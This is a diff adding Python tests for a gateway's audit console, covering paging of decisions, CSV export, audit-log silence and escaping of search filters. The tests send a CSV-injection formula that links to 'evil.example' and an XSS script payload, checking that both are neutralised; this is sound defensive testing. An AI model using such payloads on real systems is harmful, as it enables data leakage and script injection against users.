@@ -96,3 +96,79 @@ async def test_explain_shows_the_decision_trace(console):
 async def test_explain_reports_bad_input(console):
     resp = await console.get("/_gw/console/rules?user=alice&method=GET&path=/api/customers&ip=not-an-ip", headers=HEIDI)
     assert resp.status == 400
+
+
+async def test_decisions_page_through_the_index_like_the_scan(aiohttp_client, crm, tmp_path, clock, redis_url):
+    from gateway.audit.search import AuditQuery, search
+
+    console = await build_console(aiohttp_client, crm, tmp_path, clock, redis_url, console={"page_size": 10})
+    for i in range(23):
+        assert (await console.get(f"/api/customers/{i + 1}", headers=auth("alice", ip="10.1.2.3"))).status in (
+            200,
+            403,
+            404,
+        )
+    seen, url = [], "/_gw/console/decisions?user=alice"
+    while url:
+        html = await (await console.get(url, headers=HEIDI)).text()
+        assert "Answered by the audit index" in html and 'href="/_gw/console/api/decisions.csv?user=alice"' in html
+        seen += decision_ids(html)
+        older = re.search(r'<a href="(/_gw/console/decisions\?[^"]+)" rel="next">', html)
+        url = older.group(1).replace("&amp;", "&") if older else ""
+    scanned = search(console.console.audit_path, AuditQuery(user="alice"), limit=1000).records
+    assert seen == [r["decision_id"] for r in scanned] and len(seen) == 23
+    api = await (await console.get("/_gw/console/api/decisions?user=alice", headers=HEIDI)).json()
+    assert api["via"] == "index" and len(api["decisions"]) == 10 and api["next_before"]
+    older = await console.get(f"/_gw/console/api/decisions?user=alice&before={api['next_before']}", headers=HEIDI)
+    assert [d["decision_id"] for d in (await older.json())["decisions"]] == seen[10:20]
+    bad = await console.get("/_gw/console/api/decisions?before=x%3Cb%3E", headers=HEIDI)
+    assert bad.status == 400 and "<b>" not in await bad.text()
+    assert (await console.get("/_gw/console/decisions?before=%C2%B2", headers=HEIDI)).status == 400  # "²".isdigit()
+
+
+async def test_a_search_exports_as_csv_with_formulas_defused(console):
+    import csv
+    import io
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    headers = {**auth("alice", ip="10.1.2.3"), "User-Agent": evil}
+    assert (await console.get("/api/customers/1", headers=headers)).status in (200, 403, 404)
+    assert (await console.get("/api/admin/users", headers=headers)).status == 403
+    resp = await console.get("/_gw/console/api/decisions.csv?user=alice&effect=deny", headers=HEIDI)
+    assert resp.status == 200 and resp.content_type == "text/csv"
+    assert resp.headers["Content-Disposition"] == 'attachment; filename="decisions.csv"'
+    rows = list(csv.DictReader(io.StringIO(await resp.text())))
+    assert (rows[0]["user"], rows[0]["path"], rows[0]["effect"]) == ("alice", "/api/admin/users", "deny")
+    assert {r["effect"] for r in rows} == {"deny"} and {r["user_agent"] for r in rows} == {"'" + evil}
+    assert (await console.get("/_gw/console/api/decisions.csv?user=alice", headers=auth("alice"))).status == 403
+
+
+async def test_no_console_request_and_no_favicon_writes_an_audit_line(console):
+    await traffic(console)
+    path = console.console.audit_path
+    before = path.read_bytes()
+    for url, headers in [
+        ("/_gw/console/decisions?user=alice", HEIDI),
+        ("/_gw/console/api/decisions.csv", HEIDI),
+        ("/_gw/console/rules?user=alice&method=GET&path=/api/customers", HEIDI),
+        ("/_gw/console/alerts", HEIDI),
+        ("/_gw/console/no-such-page", HEIDI),
+        ("/_gw/console/decisions", auth("alice")),  # a sales rep: 403
+        ("/_gw/console/api/decisions", auth("alice")),
+        ("/_gw/console/alerts", {}),  # not signed in: to the login page
+        ("/_gw/console/login", {}),
+        ("/_gw/console/static/console.js", {}),
+        ("/favicon.ico", {}),
+        ("/favicon.ico", HEIDI),
+    ]:
+        assert (await console.get(url, headers=headers, allow_redirects=False)).status < 500
+    assert path.read_bytes() == before
+
+
+async def test_search_filters_are_escaped_in_the_pager_and_export_links(console):
+    await traffic(console)
+    evil = '"><script>window.__xss=1</script>'
+    resp = await console.get("/_gw/console/decisions", params={"user": evil, "rule": evil}, headers=HEIDI)
+    html = await resp.text()
+    assert resp.status == 200 and "<script>window.__xss" not in html
+    assert "/api/decisions.csv?user=%22%3E%3Cscript%3E" in html
